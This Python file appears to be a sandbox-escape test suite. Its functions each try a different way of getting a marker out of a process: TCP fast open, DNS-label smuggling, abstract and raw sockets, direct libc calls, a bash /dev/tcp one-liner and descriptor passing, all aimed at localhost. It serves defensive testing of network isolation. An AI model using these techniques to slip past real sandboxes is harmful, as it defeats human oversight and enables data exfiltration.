"""Sends something out: TCP, UDP, names, unix and abstract sockets, raw calls, and libraries on top of them."""

from strategy.skills.kit import Strategy, attack, call, libc

__all__ = ["Strategy"]

_HOST = "127.0.0.1"


@attack("received")
def tcp(scene):
    import socket

    with socket.create_connection((_HOST, scene.tcp_port), 2.0) as made:
        made.sendall(scene.mark.encode())


@attack("received")
def tcp_with_the_bare_module(scene):
    import _socket

    made = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    made.connect((_HOST, scene.tcp_port))


@attack("received", thorough=True)
def tcp_without_blocking(scene):
    import select
    import socket

    made = socket.socket()
    made.setblocking(False)
    made.connect_ex((_HOST, scene.tcp_port))
    select.select([], [made], [], 1.0)
    made.send(scene.mark.encode())


@attack("received", lacks="this kernel has no TCP fast open", thorough=True)
def tcp_fast_open(scene):
    """Connects by sending: a rule on connect alone does not see it."""
    import socket

    socket.socket().sendto(scene.mark.encode(), socket.MSG_FASTOPEN, (_HOST, scene.tcp_port))


@attack("received", lacks="this machine has no IPv6", thorough=True)
def tcp_over_version_six(scene):
    import socket

    with socket.socket(socket.AF_INET6) as made:
        made.connect((f"::ffff:{_HOST}", scene.tcp_port))


@attack("received")
def udp(scene):
    import socket

    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(scene.mark.encode(), (_HOST, scene.udp_port))


@attack("received", thorough=True)
def udp_connected(scene):
    import socket

    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.connect((_HOST, scene.udp_port))
    made.send(scene.mark.encode())


@attack("received", thorough=True)
def name_query(scene):
    """What the operator's name server would be asked: a secret goes out as a host name."""
    import socket
    import struct

    labels = b"".join(bytes([len(part)]) + part for part in (scene.mark.encode(), b"example", b"com"))
    query = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (_HOST, scene.udp_port))


@attack("descriptor", lacks="this machine has no resolver", thorough=True)
def name_lookup(scene):
    """The C library's resolver opens sockets; one is kept open to be seen."""
    import socket

    kept = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    scene.strategy.kept = kept
    return socket.getaddrinfo("localhost", 80)


@attack("received")
def unix_socket(scene):
    import socket

    socket.socket(socket.AF_UNIX).connect(f"{scene.folder}/unix.sock")


@attack("received", thorough=True)
def unix_datagram(scene):
    import socket

    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(scene.mark.encode(), f"{scene.folder}/dgram.sock")


@attack("received")
def abstract_socket(scene):
    """No file belongs to it, so a rule on files does not see it."""
    import socket

    socket.socket(socket.AF_UNIX).connect(f"\0{scene.mark}")


@attack("received")
def urllib_request(scene):
    import urllib.request

    urllib.request.urlopen(f"http://{_HOST}:{scene.tcp_port}/{scene.mark}", timeout=0.3)


@attack("received")
def http_client(scene):
    import http.client

    http.client.HTTPConnection(_HOST, scene.tcp_port, timeout=0.3).request("GET", f"/{scene.mark}")


@attack("received")
def mail(scene):
    import smtplib

    smtplib.SMTP(_HOST, scene.tcp_port, timeout=0.3)


@attack("received")
def asyncio_connection(scene):
    import asyncio

    async def send():
        _, writer = await asyncio.open_connection(_HOST, scene.tcp_port)
        writer.write(scene.mark.encode())
        await writer.drain()

    asyncio.run(send())


@attack("received")
def log_to_the_network(scene):
    import logging
    import logging.handlers

    logging.handlers.DatagramHandler(_HOST, scene.udp_port).emit(logging.makeLogRecord({"msg": scene.mark}))


@attack("received", thorough=True)
def c_library_socket(scene):
    made = libc().socket(2, 1, 0)
    if made < 0 or libc().connect(made, _address(scene.tcp_port), 16):
        raise OSError("connect")


@attack("received", thorough=True)
def call_socket(scene):
    made = call("socket", 2, 1, 0)
    call("connect", made, _address(scene.tcp_port), 16)


@attack("received", thorough=True)
def call_sendto(scene):
    made = call("socket", 2, 2, 0)
    call("sendto", made, scene.mark.encode(), len(scene.mark), 0, _address(scene.udp_port), 16)


@attack("received", lacks="only root has packet sockets", thorough=True)
def raw_socket(scene):
    """A UDP packet written by hand."""
    import socket
    import struct

    payload = scene.mark.encode()
    head = struct.pack(">4H", 9, scene.udp_port, 8 + len(payload), 0)
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP).sendto(head + payload, (_HOST, 0))


@attack("descriptor", thorough=True)
def listening_socket(scene):
    import socket

    scene.strategy.kept = socket.create_server((_HOST, 0))


@attack("descriptor")
def socket_pair(scene):
    import socket

    scene.strategy.kept = socket.socketpair()


@attack("descriptor", thorough=True)
def netlink_socket(scene):
    """Asks the kernel for its interfaces and routes."""
    import socket

    scene.strategy.kept = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)


@attack("descriptor", lacks="this kernel has no algorithm sockets", thorough=True)
def algorithm_socket(scene):
    import socket

    scene.strategy.kept = socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)


@attack("descriptor", lacks="this kernel has no vsock", thorough=True)
def virtual_machine_socket(scene):
    import socket

    scene.strategy.kept = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)


@attack("received", thorough=True)
def through_a_shell(scene):
    import os

    os.system(f"bash -c 'echo {scene.mark} > /dev/tcp/{_HOST}/{scene.tcp_port}'")


@attack("descriptor")
def a_passed_descriptor(scene):
    """The request socket could carry a descriptor from the parent's side or to it."""
    import array
    import os
    import socket

    folder = os.open("/", os.O_RDONLY)
    one, other = socket.socketpair()
    one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [folder]))])
    scene.strategy.kept = socket.recv_fds(other, 1, 1)


def _address(port):
    import struct

    return struct.pack("<H", 2) + struct.pack(">H", port) + bytes([127, 0, 0, 1]) + b"\0" * 8
